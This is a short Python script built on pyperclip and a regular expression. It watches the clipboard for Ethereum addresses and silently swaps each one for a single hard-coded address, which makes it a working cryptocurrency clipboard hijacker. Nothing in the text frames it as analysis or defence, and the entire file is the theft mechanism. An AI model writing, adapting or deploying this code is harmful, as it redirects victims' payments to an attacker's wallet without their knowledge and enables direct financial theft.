import re, pyperclip

ETH = re.compile(r"0x[a-fA-F0-9]{40}")

def main():
    while True:
        t = pyperclip.waitForNewPaste()
        if ETH.fullmatch(t.strip()):
            pyperclip.copy("0x5a0b54d5dc17e0aadc383d2db43b0a0d3e029c4c")
